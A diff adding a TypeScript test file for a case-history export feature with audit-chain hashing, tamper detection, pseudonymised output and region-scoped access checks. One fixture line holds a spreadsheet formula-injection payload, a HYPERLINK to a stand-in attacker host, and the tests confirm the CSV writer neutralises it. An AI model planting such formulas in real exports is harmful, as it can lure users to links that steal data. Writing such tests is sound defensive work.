@@ -1,0 +1,141 @@
+import { parse } from "csv-parse/sync";
+import { beforeAll, describe, expect, it } from "vitest";
+import { getDb } from "../db/client";
+import type { CurrentUser } from "../auth/session-store";
+import { verifyExport } from "../audit/verify-export";
+import { addNote } from "../cases/add-note";
+import { changeProsecutionStatus } from "../cases/change-prosecution-status";
+import { TRANSITIONS } from "../prosecution/transitions";
+import { makePerson, makeRegion, makeUser } from "../testing/factories";
+import { outcome } from "../testing/outcome";
+import type { CaseExportRequest } from "../validation/export";
+import { StatusChangeInput } from "../validation/prosecution";
+import { exportHistory, type ExportPlan, type Selection } from "./export-history";
+import { CSV_COLUMNS, writeHistoryCsv } from "./write-csv";
+import { writeHistoryJson } from "./write-json";
+import { writeHistoryPdf } from "./write-pdf";
+
+const HOSTILE = '=HYPERLINK("http://attacker.example/steal","Open")';
+
+let regionId: string;
+let otherRegionId: string;
+let owner: CurrentUser;
+let supervisor: CurrentUser;
+let supervisorElsewhere: CurrentUser;
+let auditor: CurrentUser;
+let caseId: string;
+let otherCaseId: string;
+
+beforeAll(async () => {
+  await getDb().prosecutionTransition.createMany({ data: TRANSITIONS.map((t) => ({ fromStatus: t.from, toStatus: t.to, isCorrection: t.isCorrection })), skipDuplicates: true });
+  [regionId, otherRegionId] = (await Promise.all([makeRegion(), makeRegion()])).map((r) => r.id) as [string, string];
+  owner = await makeUser("CASEWORKER", [regionId]);
+  supervisor = await makeUser("SUPERVISOR", [regionId]);
+  supervisorElsewhere = await makeUser("SUPERVISOR", [otherRegionId]);
+  auditor = await makeUser("AUDITOR");
+  caseId = (await makePerson(regionId, owner.id, "Абдуллаева")).id;
+  otherCaseId = (await makePerson(otherRegionId, null, "Қасымова")).id;
+  await changeProsecutionStatus(owner, StatusChangeInput.parse({ caseId, version: 1, status: "PRELIMINARY_CHECK", effectiveDate: "2024-03-01", reason: HOSTILE }));
+  await addNote(owner, { caseId, body: "Беседа с матерью; ребёнок ходит в школу" });
+  await addNote(owner, { caseId, body: "Second note" });
+});
+
+const request = (overrides: Partial<CaseExportRequest> = {}): CaseExportRequest => ({ format: "json", profile: "full", reason: "Запрос прокуратуры", ...overrides });
+
+/** Runs an export to the end and returns what was written, as the route handler would stream it. */
+async function exported(user: CurrentUser, selection: Selection, req: CaseExportRequest): Promise<{ text: string; bytes: Buffer; plan: ExportPlan }> {
+  const chunks: Buffer[] = [];
+  let seen: ExportPlan | undefined;
+  await exportHistory(user, selection, req, async (plan) => {
+    seen = plan;
+    const write = async (chunk: string | Uint8Array) => void chunks.push(Buffer.from(chunk));
+    if (req.format === "json") await writeHistoryJson(plan, write);
+    else if (req.format === "csv") await writeHistoryCsv(plan, write);
+    else {
+      const labels = { text: (key: string) => key, action: (a: string) => a, enumLabel: (_g: string, v: string) => v, region: (n: { ru: string }) => n.ru, dateTime: (iso: string) => iso };
+      await writeHistoryPdf(plan, write, labels);
+    }
+  });
+  const bytes = Buffer.concat(chunks);
+  return { text: bytes.toString("utf8"), bytes, plan: seen! };
+}
+
+const chainEvents = (chain: string) => getDb().auditEvent.findMany({ where: { chain }, orderBy: { seq: "asc" } });
+
+describe("case-history export", () => {
+  it("holds every event of the case as hashed, verifies offline, and fails to verify with one character changed", async () => {
+    const before = await chainEvents(caseId);
+    const { text } = await exported(auditor, { caseId }, request());
+    const file = JSON.parse(text) as { chains: { chain: string; events: { id: string; hash: string }[] }[]; manifest: { counts: { events: number }; verifiable: boolean } };
+    expect(file.chains).toHaveLength(1);
+    expect(file.chains[0]!.events.map((e) => [e.id, e.hash])).toEqual(before.map((e) => [e.id, e.hash]));
+    expect(file.manifest).toMatchObject({ counts: { cases: 1, events: before.length }, verifiable: true });
+    expect(verifyExport(text)).toMatchObject({ ok: true, verifiable: true, events: before.length });
+
+    const tampered = text.replace("ребёнок", "рёбенок");
+    expect(tampered).not.toBe(text);
+    const result = verifyExport(tampered);
+    expect(result.ok).toBe(false);
+    expect(result.problems.map((p) => p.kind)).toContain("content");
+  });
+
+  it("is itself an audit event in the case's chain, recording format, profile, filters, counts and reason", async () => {
+    const { plan } = await exported(auditor, { caseId }, request({ format: "csv", reason: "Проверка" }));
+    const event = await getDb().auditEvent.findFirstOrThrow({ where: { chain: caseId, action: "history.exported", entityId: plan.exportId } });
+    expect(event).toMatchObject({ actorId: auditor.id, reason: "Проверка", context: { format: "csv", profile: "full", filters: { caseId }, cases: 1, events: plan.counts.events } });
+  });
+
+  it("writes CSV that a standard parser reads back as the stored events, with the formula cell neutralised", async () => {
+    const { text } = await exported(auditor, { caseId }, request({ format: "csv" }));
+    expect(text.startsWith("\uFEFF")).toBe(true);
+    const rows = parse(text.slice(1), { columns: true }) as Record<(typeof CSV_COLUMNS)[number], string>[];
+    const stored = await chainEvents(caseId);
+    const inFile = rows.length;
+    expect(rows.map((r) => [Number(r.seq), r.action, r.hash, r.prev_hash || null, r.occurred_at])).toEqual(stored.slice(0, inFile).map((e) => [e.seq, e.action, e.hash, e.prevHash, e.occurredAt.toISOString()]));
+    const hostile = rows.find((r) => r.action === "prosecution.status_changed")!;
+    expect(hostile.reason).toBe(`'${HOSTILE}`);
+    expect(JSON.parse(rows.find((r) => r.action === "note.added")!.after)).toEqual({ body: "Беседа с матерью; ребёнок ходит в школу" });
+  });
+
+  it("writes a PDF whose text holds the case number and the Cyrillic name", async () => {
+    const { bytes } = await exported(auditor, { caseId }, request({ format: "pdf" }));
+    expect(bytes.subarray(0, 5).toString()).toBe("%PDF-");
+    const { getDocument } = await import("pdfjs-dist/legacy/build/pdf.mjs");
+    const pdf = await getDocument({ data: new Uint8Array(bytes), useSystemFonts: false }).promise;
+    const page = await pdf.getPage(1);
+    const text = (await page.getTextContent()).items.map((item) => ("str" in item ? item.str : "")).join(" ");
+    const { caseNumber } = await getDb().person.findUniqueOrThrow({ where: { id: caseId }, select: { caseNumber: true } });
+    expect(text).toContain(caseNumber);
+    expect(text).toContain("Абдуллаева");
+  });
+
+  it("pseudonymised: no name, case number or note text, and the manifest says it cannot be verified against the chain", async () => {
+    const { text } = await exported(auditor, { caseId }, request({ profile: "pseudonymised" }));
+    const { caseNumber } = await getDb().person.findUniqueOrThrow({ where: { id: caseId }, select: { caseNumber: true } });
+    for (const secret of ["Абдуллаева", caseNumber, "ребёнок", caseId]) expect(text).not.toContain(secret);
+    expect(verifyExport(text)).toMatchObject({ ok: true, verifiable: false });
+  });
+
+  it("answers a case out of the exporter's scope as absent, recording only the denial", async () => {
+    const since = new Date();
+    expect(await outcome(exportHistory(supervisorElsewhere, { caseId }, request(), async () => undefined))).toBe("notFound");
+    expect(await outcome(exportHistory(owner, { caseId }, request(), async () => undefined))).toBe("notFound");
+    const written = await getDb().auditEvent.findMany({ where: { chain: caseId, occurredAt: { gte: since } }, select: { action: true } });
+    expect(written.map((e) => e.action)).toEqual(["access.denied", "access.denied"]);
+  });
+
+  it("never puts a case the exporter may not see into a set export", async () => {
+    const { text } = await exported(supervisor, { filters: {} }, request());
+    const chains = (JSON.parse(text) as { chains: { chain: string }[] }).chains.map((c) => c.chain);
+    expect(chains).toContain(caseId);
+    expect(chains).not.toContain(otherCaseId);
+    const outOfScope = await getDb().person.count({ where: { id: { in: chains }, regionId: { notIn: supervisor.regionIds } } });
+    expect(outOfScope).toBe(0);
+    expect(verifyExport(text).ok).toBe(true);
+  });
+
+  it("applies the registry's filters to a set export", async () => {
+    const { text } = await exported(auditor, { filters: { region: otherRegionId } }, request());
+    expect((JSON.parse(text) as { chains: { chain: string }[] }).chains.map((c) => c.chain)).toEqual([otherCaseId]);
+  });
+});
